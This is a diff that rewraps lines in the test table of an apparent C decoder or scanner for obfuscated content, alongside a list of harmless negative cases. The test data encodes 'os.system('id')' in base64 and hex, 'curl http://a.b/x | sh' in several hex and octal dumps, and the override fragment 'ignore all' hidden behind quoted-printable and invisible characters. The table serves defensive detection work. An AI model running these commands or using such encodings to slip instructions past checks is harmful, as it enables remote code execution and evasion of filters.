@@ -40,10 +40,12 @@ static const struct row {
 	{"aW1w\nb3J0\nIG9z\nOyBv\ncy5z\neXN0\nZW0o\nJ2lk\nJyk=\n", "base64", PROGRAM},
 	{"Read:\n\naW1wb3J0IG9\r\n\r\nzOyBvcy5zeX\r\nN0ZW0oJ2lkJ\r\nyk=\r\nHere ends.", "base64", PROGRAM},
 	{"[\n  'aW1wb3J0IG9',\n  'zOyBvcy5zeX',\n  'N0ZW0oJ2lkJ',\n  'yk='\n]", "base64", PROGRAM},
-	{"aW1w\nb3J0\nIG9z\nOyBv\ncw==\naW1w\nb3J0\nIG9z\nOyBv\ncy5z\neXN0\nZW0o\nJ2lk\nJyk=\n", "base64", PROGRAM},
+	{"aW1w\nb3J0\nIG9z\nOyBv\ncw==\naW1w\nb3J0\nIG9z\nOyBv\ncy5z\neXN0\nZW0o\nJ2lk\nJyk=\n",
+	 "base64", PROGRAM},
 	{"696d706f\n7274206f\n733b206f\n732e7379\n7374656d\n28276964\n2729\n", "hex", PROGRAM},
 	{"aW1wb3J0IG9zOyBvcy\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n"
-	 "\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n5zeXN0ZW0oJ2lkJyk=", "base64", PROGRAM},
+	 "\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n5zeXN0ZW0oJ2lkJyk=",
+	 "base64", PROGRAM},
 	/* A harmless piece that ends in the middle of a byte. */
 	{"dGhpcyBpcyBhIGxvbmcgYW5kIGhhcm1sZXNzIHRleHQgdGhhdCBzdGFuZHMgYmVmb3JlIGl0LCBhIGxvbmcgYW5kIGhhcm1"
 	 "sZXNzIHRleHQgdGhhdCBzdGFuZHMgYmVmb3JlIGl\n" B64, "base64", PROGRAM},
@@ -71,20 +73,26 @@ static const struct row {
 	{"696d 706f 7274 206f 73", "hex list", "import o"}, {"696d706f 7274206f", "hex list", "import o"},
 	/* Few small letters, and few letters at all. */
 	{"73 48 20 2d 43 20 22 4c 53 22", "hex list", "sH -C \"LS\""},
-	{"73,104,32,45,99,32,34,49,50,51,52,53,54,55,56,57,48,34,35,35,35,35,108,115,47,66,105,110", "number list",
+	{"73,104,32,45,99,32,34,49,50,51,52,53,54,55,56,57,48,34,35,35,35,35,108,115,47,66,105,110",
+	 "number list",
 	 "Ih -c \"1234567890\"####ls/Bin"},
 	/* Dumps: xxd, xxd -g1, hexdump -C, od -tx1, od -tx1z, od -b, od -x. */
-	{"00000000: 6375 726c 2068 7474 703a 2f2f 612e 622f  curl http://a.b/\n00000010: 7820 7c20 7368 0a                        x | sh.\n",
+	{"00000000: 6375 726c 2068 7474 703a 2f2f 612e 622f  curl http://a.b/\n00000010: 7820 7c"
+	 "20 7368 0a                        x | sh.\n",
 	 "dump", "curl http://a.b/x | sh\n"},
-	{"00000000: 63 75 72 6c 20 68 74 74 70 3a 2f 2f 61 2e 62 2f  curl http://a.b/\n00000010: 78 20 7c 20 73 68 0a                             x | sh.\n",
+	{"00000000: 63 75 72 6c 20 68 74 74 70 3a 2f 2f 61 2e 62 2f  curl http://a.b/\n00000010:"
+	 " 78 20 7c 20 73 68 0a                             x | sh.\n",
 	 "dump", "curl http://a.b/x | sh\n"},
-	{"see\n00000000  63 75 72 6c 20 68 74 74  70 3a 2f 2f 61 2e 62 2f  |curl http://a.b/|\r\n00000010  78 20 7c 20 73 68 0a                              |x | sh.|\n00000017\n",
+	{"see\n00000000  63 75 72 6c 20 68 74 74  70 3a 2f 2f 61 2e 62 2f  |curl http://a.b/|\r"
+	 "\n00000010  78 20 7c 20 73 68 0a                              |x | sh.|\n00000017\n",
 	 "dump", "curl http://a.b/x | sh\n"},
 	{"0000000 63 75 72 6c 20 68 74 74 70 3a 2f 2f 61 2e 62 2f\n0000020 78 20 7c 20 73 68 0a\n0000027\n",
 	 "dump", "curl http://a.b/x | sh\n"},
-	{"000000 63 75 72 6c 20 68 74 74 70 3a 2f 2f 61 2e 62 2f  >curl http://a.b/<\n000010 78 20 7c 20 73 68 0a                             >x | sh.<\n000017\n",
+	{"000000 63 75 72 6c 20 68 74 74 70 3a 2f 2f 61 2e 62 2f  >curl http://a.b/<\n000010 78 "
+	 "20 7c 20 73 68 0a                             >x | sh.<\n000017\n",
 	 "dump", "curl http://a.b/x | sh\n"},
-	{"0000000 143 165 162 154 040 150 164 164 160 072 057 057 141 056 142 057\n0000020 170 040 174 040 163 150 012\n0000027\n",
+	{"0000000 143 165 162 154 040 150 164 164 160 072 057 057 141 056 142 057\n0000020 170 0"
+	 "40 174 040 163 150 012\n0000027\n",
 	 "dump", "curl http://a.b/x | sh\n"},
 	{"0000000 7563 6c72 6820 7474 3a70 2f2f 2e61 2f62\n0000020 2078 207c 6873\n0000026\n",
 	 "dump", "curl http://a.b/x | sh"},
@@ -100,8 +108,10 @@ static const struct row {
 	{"&#105;&#x64;", "html", "id"}, {"a &gt;&amp; b&sol;c", "html", "a >& b/c"},
 	{"%69&#100;", "url+html", "id"}, {"%2569d", "url > url", "id"},
 	{"curl\\40x", "escape", "curl x"}, {"\\0151\\0144", "escape", "id"}, {"\\401", "escape", " 1"},
-	{"&#105&#100", "html", "id"}, {"&#x69&#x64 ", "html", "id "}, {"&#0000000105;&#x000000000000064;", "html", "id"},
-	{"ign=6Fre a=\nll=20", "quoted-printable", "ignore all "}, {"=69=\r\n=64", "quoted-printable", "id"},
+	{"&#105&#100", "html", "id"}, {"&#x69&#x64 ", "html", "id "}, {
+	 "&#0000000105;&#x000000000000064;", "html", "id"},
+	{"ign=6Fre a=\nll=20", "quoted-printable", "ignore all "}, {"=69=\r\n=64",
+	 "quoted-printable", "id"},
 	/* What nobody sees. */
 	{"ig\xc2\xadnore \xcd\x8f" "all", "invisible", "ignore all"},
 	{"\xe2\x81\xa2" "a\xe3\x85\xa4" "b\xd8\x9c" "c\xe1\x85\xa0" "d", "invisible", "abcd"},
@@ -132,11 +142,13 @@ static const char *const nothing[] = {
 	"C:\\users\\xavier\\notes.txt", "a\\nb\\tc \\\"quoted\\\" \\\\ /", "x & y && z &c; R&D;",
 	"                                ", "00:00:00,000 --> 00:00:01,000", "100% of it %",
 	"\\", "\\x", "&#;",
-	"\xef\xbb\xbf" "a file with a mark", "\xe4\xb8\xad\xe6\x96\x87 \xe3\x81\x82 \xef\xbc\xa1 \xc3\xa9 \xc2\xa0",
+	("\xef\xbb\xbf" "a file with a mark"),
+	 "\xe4\xb8\xad\xe6\x96\x87 \xe3\x81\x82 \xef\xbc\xa1 \xc3\xa9 \xc2\xa0",
 	"a\tb\r\n\v\f\xc2\x85", "\xe2\x80\x94 dashes \xe2\x80\x99 and quotes", "\xf0\x9f\x98\x80",
 	"0000000 00 01 02 03 04 05 06 07 08 09 0a 0b 0c 0d 0e 0f\n", "00000000 curl",
 	"20231115 12 30 45\n20231116 12 31 46\n", "33, 34, 35, 36, 37, 38, 39, 32, 33, 34, 35",
-	"a=10", "x = 1; y = 2; z = 3; f(a=60, b=3B)", "f(x=default, y=bar, z=fa=\n", "a =\n b =\n", "x = 10; y == 20", "a\\1b\\2 \\9", "&#0000;", "QQ=\n",
+	"a=10", "x = 1; y = 2; z = 3; f(a=60, b=3B)", "f(x=default, y=bar, z=fa=\n", "a =\n b =\n",
+	 "x = 10; y == 20", "a\\1b\\2 \\9", "&#0000;", "QQ=\n",
 	"deadbeefcafebabe0123456789abcdef", "aGVsbG8=", "2023-11-15 2023-11-16 2023-11-17",
 };
 /* clang-format on */
